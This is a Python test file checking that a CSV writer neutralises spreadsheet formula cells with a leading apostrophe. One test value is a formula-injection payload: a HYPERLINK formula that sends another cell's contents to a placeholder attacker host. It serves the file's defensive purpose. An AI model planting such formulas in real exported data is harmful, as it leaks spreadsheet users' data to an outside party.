"""The shared CSV writer neutralises formula cells and leaves everything else as csv would."""

from __future__ import annotations

import csv
import io

import pytest

from desist.core import safecsv

FORMULAS = ['=HYPERLINK("http://ev.il/?"&B2,"Details") urgent', "+44 20", "-1+1", "@SUM(A1)"]


@pytest.mark.parametrize("cell", [*FORMULAS, "\tTAB", "\rCR"])
def test_formula_cells_get_a_leading_apostrophe(cell: str) -> None:
    buf = io.StringIO()
    safecsv.writer(buf).writerow([cell, "plain"])
    assert next(csv.reader(io.StringIO(buf.getvalue()))) == ["'" + cell, "plain"]


def test_other_cells_are_written_as_csv_writes_them() -> None:
    row = ["plain", "a,b", 'say "hi"', -3, 2.5, None, "", "x=1"]
    mine, stdlib = io.StringIO(), io.StringIO()
    safecsv.writer(mine).writerows([row, row])
    csv.writer(stdlib).writerows([row, row])
    assert mine.getvalue() == stdlib.getvalue()


def test_dict_writer_neutralises_header_and_rows() -> None:
    buf = io.StringIO()
    w = safecsv.DictWriter(buf, fieldnames=["=h", "b"], extrasaction="ignore")
    w.writeheader()
    w.writerow({"=h": "=1+1", "b": 2, "extra": "dropped"})
    assert list(csv.reader(io.StringIO(buf.getvalue()))) == [["'=h", "b"], ["'=1+1", "2"]]
